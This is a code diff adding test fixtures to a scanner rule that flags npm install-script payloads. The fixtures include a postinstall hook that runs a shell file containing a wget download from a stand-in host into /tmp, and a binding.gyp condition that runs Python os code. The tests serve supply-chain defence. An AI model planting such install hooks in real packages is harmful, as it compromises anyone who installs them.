@@ -61,6 +61,11 @@ export const installScriptPayload: Rule = defineRule({
           at: { in: 'tarball', path: 'package.json', line: 5 },
           via: ['scripts/preinstall'],
         },
+        {
+          message: 'wget connects to https://far.invalid/a',
+          at: { in: 'tarball', path: 'package.json', line: 5 },
+          via: ['scripts/preinstall'],
+        },
       ],
     },
     {
@@ -75,6 +80,32 @@ export const installScriptPayload: Rule = defineRule({
           message: 'eval runs text: 1',
           at: { in: 'tarball', path: 'run.js', line: 1 },
           via: ['scripts/install', 'run.js'],
+        },
+      ],
+    },
+    {
+      title: 'a shell file, and a binding.gyp that leaves the language of conditions',
+      before: { 'setup.sh': '' },
+      after: {
+        'package.json': { scripts: { install: 'node-gyp rebuild', postinstall: 'sh setup.sh' } },
+        'setup.sh': '#!/bin/sh\nwget -q https://far.invalid/b -O /tmp/b\n',
+        'binding.gyp': `{ 'conditions': [["__import__('os').getpid() > 0", {}]] }\n`,
+      },
+      expect: [
+        {
+          message: "binding.gyp condition runs text: __import__('os').getpid() > 0",
+          at: { in: 'tarball', path: 'binding.gyp', line: 1 },
+          via: ['scripts/install', 'binding.gyp'],
+        },
+        {
+          message: 'sh starts wget -q https://far.invalid/b -O /tmp/b',
+          at: { in: 'tarball', path: 'setup.sh', line: 2 },
+          via: ['scripts/postinstall', 'setup.sh'],
+        },
+        {
+          message: 'wget connects to https://far.invalid/b',
+          at: { in: 'tarball', path: 'setup.sh', line: 2 },
+          via: ['scripts/postinstall', 'setup.sh'],
         },
       ],
     },
